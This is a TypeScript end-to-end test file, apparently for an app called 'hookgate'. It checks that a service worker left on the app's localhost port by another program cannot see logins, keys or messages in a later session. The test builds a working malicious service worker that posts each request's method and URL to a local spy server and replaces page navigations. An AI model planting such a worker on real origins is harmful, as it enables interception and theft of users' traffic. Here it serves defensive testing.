import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { freePort } from '../../../src/attack/gate/free-port.ts'
import { isBrowserMissing, launchBrowser } from '../../e2e/browser.ts'
import { startScripted } from './scripted-web.ts'

/** The worker of whoever held the port: it answers in the page's place, and sends away what it saw. */
const worker = (spy: number): string => `
  addEventListener('install', () => skipWaiting())
  addEventListener('activate', (event) => event.waitUntil(clients.claim()))
  addEventListener('fetch', (event) => {
    fetch('http://127.0.0.1:${spy}/saw', { method: 'POST', mode: 'no-cors', body: event.request.method + ' ' + event.request.url })
    if (event.request.mode === 'navigate') event.respondWith(new Response('<h1>taken</h1>', { headers: { 'content-type': 'text/html' } }))
  })`
const registers = `<script>navigator.serviceWorker.register('/deep/worker.js', { scope: '/' }).then(() => navigator.serviceWorker.ready).then(() => document.title = 'registered')</script>`

/** What other program of this machine took the page's port, and under every name. */
const holdPort = async (port: number, spy: number): Promise<() => Promise<void>> => {
  const serve = (request: IncomingMessage, response: ServerResponse): void => {
    const isScript = request.headers['service-worker'] === 'script'
    response.writeHead(200, {
      'content-type': isScript ? 'text/javascript' : 'text/html',
      'service-worker-allowed': '/',
    })
    response.end(isScript ? worker(spy) : registers)
  }
  const servers = [
    createServer(serve).listen(port, '127.0.0.1'),
    createServer(serve)
      .listen(port, '::1')
      .on('error', () => undefined),
  ]
  if (servers[0] !== undefined) await once(servers[0], 'listening')
  return async () => {
    for (const server of servers) {
      server.close()
      server.closeAllConnections()
    }
    if (servers[0] !== undefined) await once(servers[0], 'close')
  }
}

describe.skipIf(isBrowserMissing)('a service worker of whoever held the port while hookgate was away', () => {
  let browser: Browser
  let context: BrowserContext
  let page: Page
  let port: number
  let saw: string[]
  const endings: (() => unknown)[] = []

  beforeEach(async () => {
    port = await freePort()
    browser = await launchBrowser()
    endings.push(() => browser.close())
    context = await browser.newContext({ viewport: { width: 360, height: 740 } })
    page = await context.newPage()
    page.setDefaultTimeout(30_000)
    saw = []
  })
  afterEach(async () => {
    for (const end of endings.splice(0).toReversed()) await end()
  })

  const spyOn = async (): Promise<number> => {
    const spy = createServer((request, response) => {
      void request.on('data', (chunk: Buffer) => saw.push(String(chunk)))
      response.end()
    }).listen(0, '127.0.0.1')
    await once(spy, 'listening')
    endings.push(() => {
      spy.close()
      spy.closeAllConnections()
    })
    return (spy.address() as AddressInfo).port
  }
  const start = async () => {
    const scripted = await startScripted(port, Date.now())
    endings.push(() => scripted.web.stop())
    return scripted
  }
  const logIn = async ({ web }: Awaited<ReturnType<typeof startScripted>>): Promise<void> => {
    await page.goto(`${web.url()}/#${web.mintLogin()}`)
    await page.getByText('Connected', { exact: true }).waitFor()
  }
  const registered = (): Promise<number> =>
    page.evaluate('navigator.serviceWorker.getRegistrations().then((all) => all.length)')
  /** Leaves a worker at each address, as a left tab, a bookmark or another program's link would. */
  const infect = async (addresses: readonly string[]): Promise<void> => {
    const release = await holdPort(port, await spyOn())
    for (const address of addresses) {
      await page.goto(`${address}/`)
      await page.waitForFunction("document.title === 'registered'")
      await page.goto(`${address}/`)
      expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe('taken')
    }
    await expect.poll(() => saw.length).toBeGreaterThan(0)
    await release()
    saw = []
  }

  test('sees nothing of the page: neither the login, nor the key, nor a tap', async () => {
    const first = await start()
    await logIn(first)
    const left = first.web.url()
    await first.web.stop()
    const known = [left, `http://127.0.0.1:${port}`, `http://localhost:${port}`]
    await infect(known)

    const second = await start()
    await logIn(second)
    await page.getByRole('textbox', { name: 'Message' }).fill('hello')
    await page.getByRole('button', { name: 'Send' }).click()
    await expect.poll(() => second.received.map(({ text }) => text)).toEqual(['hello'])
    await page.reload()
    await page.getByText('Connected', { exact: true }).waitFor()
    expect(await page.evaluate('navigator.serviceWorker.controller === null')).toBe(true)
    expect(await registered()).toBe(0)
    expect(saw).toEqual([])

    // Where it was left it ends as soon as the browser asks hookgate for its script, and what it kept is
    // gone.
    for (const address of known) {
      await page.goto(`${address}/`)
      await expect
        .poll(
          async () => {
            await page.goto(`${address}/`)
            return page.getByRole('heading', { level: 1 }).innerText()
          },
          { timeout: 15_000, interval: 3000 },
        )
        .toBe('hookgate has a new address')
      await expect.poll(registered).toBe(0)
      expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    }
    const shots = process.env['HOOKGATE_SHOTS']
    if (shots !== undefined) await page.screenshot({ path: `${shots}/lost-360.png` })
    expect(second.misuses).toEqual([])
  }, 60_000)
})
